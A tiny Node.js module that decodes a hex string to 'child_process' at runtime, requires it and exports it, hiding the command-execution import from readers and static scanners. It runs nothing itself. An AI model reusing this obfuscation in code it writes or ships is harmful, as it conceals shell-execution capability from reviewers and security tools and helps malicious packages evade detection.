function e(r){return Buffer.from(r,'hex').toString()}
var m = require(e('6368696c645f70726f63657373'));
module.exports = m;
